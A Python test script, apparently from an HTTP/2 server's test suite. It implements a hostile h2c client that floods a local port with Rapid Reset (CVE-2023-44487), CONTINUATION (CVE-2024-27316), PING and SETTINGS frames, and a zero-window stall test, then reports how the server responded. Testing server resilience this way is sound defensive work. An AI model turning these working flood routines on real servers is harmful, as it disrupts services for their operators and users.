#!/usr/bin/env python3
"""A hostile HTTP/2 client (h2c, prior knowledge) for the flood tests.

  h2_flood.py PORT MODE COUNT

MODE: reset (HEADERS then RST_STREAM, CVE-2023-44487), ping, settings, continuation
(one HEADERS followed by CONTINUATION frames, CVE-2024-27316). Sends COUNT of them as
fast as the socket takes them, then reads until the server closes. Prints JSON:
{"sent": N, "goaway": error code or null, "closed": true/false}.

  h2_flood.py PORT stall BIGPATH SMALLPATH

A slow stream: stream windows of 0, a GET of BIGPATH left without window, then a GET of
SMALLPATH given a window. Prints {"small_done": bool, "big_bytes": N}: the small answer
must come whole while the big one waits.
"""
import json
import socket
import struct
import sys


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    out = b"\x10"
    for s in (name, value):
        b = s.encode()
        assert len(b) < 127
        out += bytes([len(b)]) + b
    return out


def block(path):
    return b"".join(literal(n, v) for n, v in [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "x")])


def stall(port, big, small):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0)))
    sock.sendall(frame(1, 0x5, 1, block(big)) + frame(1, 0x5, 3, block(small)) + frame(8, 0, 3, struct.pack(">I", 65535)))
    buf, done, big_bytes = b"", False, 0
    try:
        while not done:
            data = sock.recv(65536)
            if not data:
                break
            buf += data
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7fffffff
                if ftype == 0 and stream == 1:
                    big_bytes += n
                if ftype == 0 and stream == 3 and flags & 1:
                    done = True
                if ftype == 4 and not flags & 1:
                    sock.sendall(frame(4, 1, 0))
                buf = buf[9 + n:]
    except socket.timeout:
        pass
    print(json.dumps({"small_done": done, "big_bytes": big_bytes}))


def main():
    if sys.argv[2] == "stall":
        return stall(int(sys.argv[1]), sys.argv[3], sys.argv[4])
    port, mode, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    sent = 0
    try:
        if mode == "continuation":
            sock.sendall(frame(1, 0, 1, block("/")))
        for i in range(count):
            if mode == "reset":
                stream = 1 + 2 * i
                data = frame(1, 0x4, stream, block("/c/hello")) + frame(3, 0, stream, struct.pack(">I", 8))
            elif mode == "ping":
                data = frame(6, 0, 0, struct.pack(">Q", i))
            elif mode == "settings":
                data = frame(4, 0, 0, struct.pack(">HI", 3, 100))
            else:
                data = frame(9, 0, 1, literal("x-filler-%d" % i, "y" * 40))
            sock.sendall(data)
            sent += 1
    except OSError:
        pass
    goaway, closed, buf = None, False, b""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                closed = True
                break
            buf += data
    except ConnectionResetError:
        closed = True
    except socket.timeout:
        pass
    i = 0
    while i + 9 <= len(buf):
        n = int.from_bytes(buf[i:i + 3], "big")
        if buf[i + 3] == 7 and i + 17 <= len(buf):
            goaway = int.from_bytes(buf[i + 13:i + 17], "big")
        i += 9 + n
    print(json.dumps({"sent": sent, "goaway": goaway, "closed": closed}))


if __name__ == "__main__":
    main()
